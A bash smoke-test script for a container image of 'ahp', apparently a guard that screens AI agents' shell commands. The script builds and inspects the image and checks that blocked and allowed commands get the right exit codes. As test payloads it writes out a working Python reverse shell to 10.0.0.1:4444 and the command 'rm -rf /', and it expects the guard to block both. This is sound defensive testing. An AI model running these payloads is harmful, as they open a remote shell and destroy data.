#!/usr/bin/env bash
# Tests the container image that ./Dockerfile describes, as far as this
# machine allows, and says which way it went:
#
# 1. Lays out the image's file system with packaging/container/rootfs.sh,
#    the script the Dockerfile's build stage runs (release build included).
# 2. With a container engine (podman or docker) that works: builds the
#    image from ./Dockerfile, the whole of it when the Go base image can be
#    pulled, else the final stage alone with its build stage replaced by
#    the file system of step 1 (--build-context build=DIR); then checks that
#    the image's user, environment, volume, entrypoint, command and health
#    check are those written in the Dockerfile.
# 3. If the engine can run a container: runs the image with a volume and
#    checks its health check and one event through the socket in the volume.
#    Otherwise runs the image's entrypoint as a plain process: ENTRYPOINT and
#    CMD, ENV and USER as written in the Dockerfile's final stage, the binary
#    of step 1, as uid 65532 (when run as root), with the data directory of
#    step 1 (owned by 65532, mode 0700) in place of the volume. Two things are
#    remapped, and only these: the paths /var/lib/ahp and /usr/local/bin/ahp
#    (to their copies in step 1's tree) and the admin port 7700 (to a free
#    one, as other harnesses may hold 7700 on a shared machine). It must
#    answer the health check's command, a readiness probe and events: a
#    Python one-liner allowed and a Python reverse shell blocked (the image's
#    binary reads Python), rm -rf / blocked, ls allowed.
#
#   packaging/container/smoke.sh
set -euo pipefail
cd "$(dirname "$0")/../.."

dockerfile=Dockerfile
# Python read by the image's binary (a build without cgo holds both, exit 3).
py_ok='{"tool_name":"bash","arguments":{"command":"python3 -c '"'"'print(1+1)'"'"'"}}'
py_rsh='{"tool_name":"bash","arguments":{"command":"python3 -c '"'"'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])'"'"'"}}'
uid=65532
work=$(mktemp -d)
chmod 0755 "$work"
pid=""
ctr=""
cleanup() {
	if [ -n "$pid" ]; then kill "$pid" 2>/dev/null || true; fi
	if [ -n "$ctr" ]; then "$engine" rm -f "$ctr" >/dev/null 2>&1 || true; "$engine" volume rm -f "$ctr-data" >/dev/null 2>&1 || true; fi
	rm -rf "$work"
}
trap cleanup EXIT
fail() { echo "container smoke test: $*" >&2; [ -f "$work/serve.log" ] && tail -20 "$work/serve.log" >&2; exit 1; }

# The final stage of the Dockerfile: every line after its last FROM.
final=$(awk '/^FROM /{buf=""} {buf=buf $0 "\n"} END{printf "%s", buf}' "$dockerfile")
instr() { printf '%s\n' "$final" | sed -n "s/^$1 //p" | tail -1; }
# execForm prints the strings of an exec-form JSON array, one a line (the
# Dockerfile keeps to plain strings: no escapes, no commas inside).
execForm() { local s=${1#*[}; s=${s%]*}; printf '%s\n' "$s" | sed 's/^ *"//; s/" *$//; s/" *, *"/\n/g'; }
jsonArray() { local out="" x; for x in "$@"; do out="$out,\"$x\""; done; printf '[%s]' "${out#,}"; }

mapfile -t entrypoint < <(execForm "$(instr ENTRYPOINT)")
mapfile -t command < <(execForm "$(instr CMD)")
health_line=$(instr HEALTHCHECK)
mapfile -t health < <(execForm "${health_line#*CMD }")
read -r -a env_pairs <<<"$(instr ENV)"
user=$(instr USER)
volume=$(execForm "$(instr VOLUME)")
[ "${#entrypoint[@]}" -gt 0 ] && [ "${#command[@]}" -gt 0 ] && [ "${#health[@]}" -gt 0 ] || fail "could not read ENTRYPOINT, CMD and HEALTHCHECK from $dockerfile"
[ "$user" = "$uid:$uid" ] || fail "USER is $user, want $uid:$uid"
echo "Dockerfile: USER $user, VOLUME $volume, ENV ${env_pairs[*]}"
echo "  ENTRYPOINT+CMD: ${entrypoint[*]} ${command[*]}"
echo "  HEALTHCHECK:    ${health[*]}"

# 1. The image's file system, as the build stage makes it.
echo "-- rootfs (packaging/container/rootfs.sh, release build)"
mkdir -p "$work/stage"
packaging/container/rootfs.sh "$work/stage/rootfs"
root=$work/stage/rootfs
"$root/usr/local/bin/ahp" version
file "$root/usr/local/bin/ahp" 2>/dev/null | grep -q 'statically linked' || ! command -v file >/dev/null || fail "the binary is not statically linked"

# 2. and 3. with a container engine, when one works here.
engine=""
for e in podman docker; do
	if command -v "$e" >/dev/null 2>&1 && "$e" info >/dev/null 2>&1; then engine=$e; break; fi
done
ran_in_engine=0
if [ -n "$engine" ]; then
	image=localhost/ahp-smoke:$$
	fmt=()
	[ "$engine" = podman ] && fmt=(--format docker) # OCI images have no HEALTHCHECK
	go_image=$(sed -n 's/^ARG GO_IMAGE=//p' "$dockerfile")
	if timeout 60 "$engine" pull -q "$go_image" >/dev/null 2>&1; then
		echo "-- $engine build: the whole Dockerfile ($go_image pulled)"
		"$engine" build "${fmt[@]}" -q -t "$image" . >/dev/null
	else
		echo "-- $engine build: $go_image cannot be pulled here; the final stage, its build stage replaced by the rootfs above"
		"$engine" build "${fmt[@]}" -q --build-context "build=$work/stage" -t "$image" . >/dev/null
	fi
	cfg() { "$engine" image inspect --format "{{json .Config.$1}}" "$image"; }
	[ "$(cfg Entrypoint)" = "$(jsonArray "${entrypoint[@]}")" ] || fail "image Entrypoint $(cfg Entrypoint)"
	[ "$(cfg Cmd)" = "$(jsonArray "${command[@]}")" ] || fail "image Cmd $(cfg Cmd)"
	[ "$(cfg User)" = "\"$user\"" ] || fail "image User $(cfg User)"
	cfg Volumes | grep -q '"/var/lib/ahp"' || fail "image Volumes $(cfg Volumes)"
	cfg Healthcheck | grep -qF "$(jsonArray "${health[@]}" | sed 's/^\[//; s/\]$//')" || fail "image Healthcheck $(cfg Healthcheck)"
	echo "image $image: entrypoint, command, user, volume and health check as in the Dockerfile"
	# The image's own files (podman create needs no runtime): the data
	# directory must belong to the image's user, or the volume is not writable.
	c=$("$engine" create "$image" 2>/dev/null)
	"$engine" export "$c" | tar -tvf - >"$work/files" 2>/dev/null || true
	"$engine" rm -f "$c" >/dev/null 2>&1 || true
	grep -E ' var/lib/ahp/?$' "$work/files" | grep -qE '^drwx------ (ahp/ahp|65532/65532) ' ||
		fail "/var/lib/ahp in the image: $(grep -E ' var/lib/ahp/?$' "$work/files"), want drwx------ owned by $uid"
	grep -qE '^-rwxr-xr-x .* usr/local/bin/ahp$' "$work/files" || fail "no executable /usr/local/bin/ahp in the image"
	echo "image files: /var/lib/ahp drwx------ owned by $uid, /usr/local/bin/ahp executable"
	if timeout 60 "$engine" run --rm "$image" version >"$work/run.out" 2>&1; then
		echo "-- $engine run: the image with a volume"
		ctr=ahp-smoke-$$
		"$engine" run -d --name "$ctr" -v "$ctr-data:/var/lib/ahp" "$image" >/dev/null
		ok=0
		for _ in $(seq 60); do
			if "$engine" exec "$ctr" "${health[@]}" >/dev/null 2>&1; then ok=1; break; fi
			sleep 0.5
		done
		[ "$ok" = 1 ] || { "$engine" logs "$ctr" | tail -20; fail "the health check never passed"; }
		rc=0
		"$engine" exec "$ctr" /usr/local/bin/ahp send --connect unix:/var/lib/ahp/ahp.sock pre_action '{"tool_name":"bash","arguments":{"command":"rm -rf /"}}' >/dev/null || rc=$?
		[ "$rc" = 2 ] || fail "rm -rf / in the container: exit $rc, want 2 (blocked)"
		rc=0
		"$engine" exec "$ctr" /usr/local/bin/ahp send --connect unix:/var/lib/ahp/ahp.sock pre_action "$py_rsh" >/dev/null || rc=$?
		[ "$rc" = 2 ] || fail "a Python reverse shell in the container: exit $rc, want 2 (blocked)"
		rc=0
		"$engine" exec "$ctr" /usr/local/bin/ahp send --connect unix:/var/lib/ahp/ahp.sock pre_action "$py_ok" >/dev/null || rc=$?
		[ "$rc" = 0 ] || fail "python3 -c 'print(1+1)' in the container: exit $rc, want 0 (allowed)"
		"$engine" stop -t 30 "$ctr" >/dev/null
		echo "container: healthy, rm -rf / and a Python reverse shell blocked, a Python one-liner allowed, stopped"
		ran_in_engine=1
		"$engine" rmi -f "$image" >/dev/null 2>&1 || true
	else
		echo "$engine cannot run containers here: $(tail -1 "$work/run.out")"
		"$engine" rmi -f "$image" >/dev/null 2>&1 || true
	fi
else
	echo "no working container engine (podman, docker): the image is not built here"
fi
[ "$ran_in_engine" = 1 ] && exit 0

# 3. The entrypoint as a plain process.
echo "-- the image's entrypoint as a plain process"
port=""
for p in $(seq 27700 27799); do
	if ! (exec 3<>"/dev/tcp/127.0.0.1/$p") 2>/dev/null; then port=$p; break; fi
done
[ -n "$port" ] || fail "no free port in 27700-27799"
remap() { local a; for a in "$@"; do a=${a//\/usr\/local\/bin\/ahp/$root/usr/local/bin/ahp}; a=${a//\/var\/lib\/ahp/$root/var/lib/ahp}; printf '%s\n' "${a//:7700/:$port}"; done; }
mapfile -t argv < <(remap "${entrypoint[@]}" "${command[@]}")
mapfile -t probe < <(remap "${health[@]}")
mapfile -t envv < <(remap "${env_pairs[@]}")
envv+=("PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin")
as=()
if [ "$(id -u)" = 0 ]; then
	as=(setpriv "--reuid=$uid" "--regid=$uid" --clear-groups)
	echo "as uid $uid, env ${envv[*]}"
else
	echo "as $(id -un) (not root: cannot take uid $uid), env ${envv[*]}"
fi
echo "${argv[*]}"
"${as[@]}" env -i "${envv[@]}" "${argv[@]}" 2>"$work/serve.log" &
pid=$!
sock=$root/var/lib/ahp/ahp.sock
ok=0
for _ in $(seq 100); do
	if [ -S "$sock" ] && "${as[@]}" env -i "${envv[@]}" "${probe[@]}" >/dev/null 2>&1; then ok=1; break; fi
	kill -0 "$pid" 2>/dev/null || fail "the entrypoint exited"
	sleep 0.2
done
[ "$ok" = 1 ] || fail "the health check never passed"
"${as[@]}" env -i "${envv[@]}" "${probe[@]}"
"${as[@]}" env -i "${envv[@]}" "${probe[@]}" --ready
send=("${as[@]}" env -i "${envv[@]}" "$root/usr/local/bin/ahp" send --connect "unix:$sock")
want_exit() { # want_exit RC WHAT PAYLOAD: ahp send of PAYLOAD exits RC
	local rc=0
	"${send[@]}" pre_action "$3" >/dev/null || rc=$?
	[ "$rc" = "$1" ] || fail "$2: exit $rc, want $1"
}
want_exit 2 "rm -rf / (blocked)" '{"tool_name":"bash","arguments":{"command":"rm -rf /"}}'
want_exit 0 "ls (allowed)" '{"tool_name":"bash","arguments":{"command":"ls"}}'
want_exit 2 "a Python reverse shell (blocked)" "$py_rsh"
want_exit 0 "python3 -c 'print(1+1)' (allowed)" "$py_ok"
owner=$(stat -c %u "$root/var/lib/ahp/ahp.db")
[ "$(id -u)" != 0 ] || [ "$owner" = "$uid" ] || fail "ahp.db is owned by uid $owner, want $uid"
kill -TERM "$pid"
rc=0
wait "$pid" || rc=$?
pid=""
[ "$rc" = 0 ] || fail "the entrypoint exited $rc on SIGTERM, want 0"
echo "plain process: healthy, ready, rm -rf / and a Python reverse shell blocked, ls and a Python one-liner allowed, data written as uid $owner, stopped cleanly on SIGTERM"
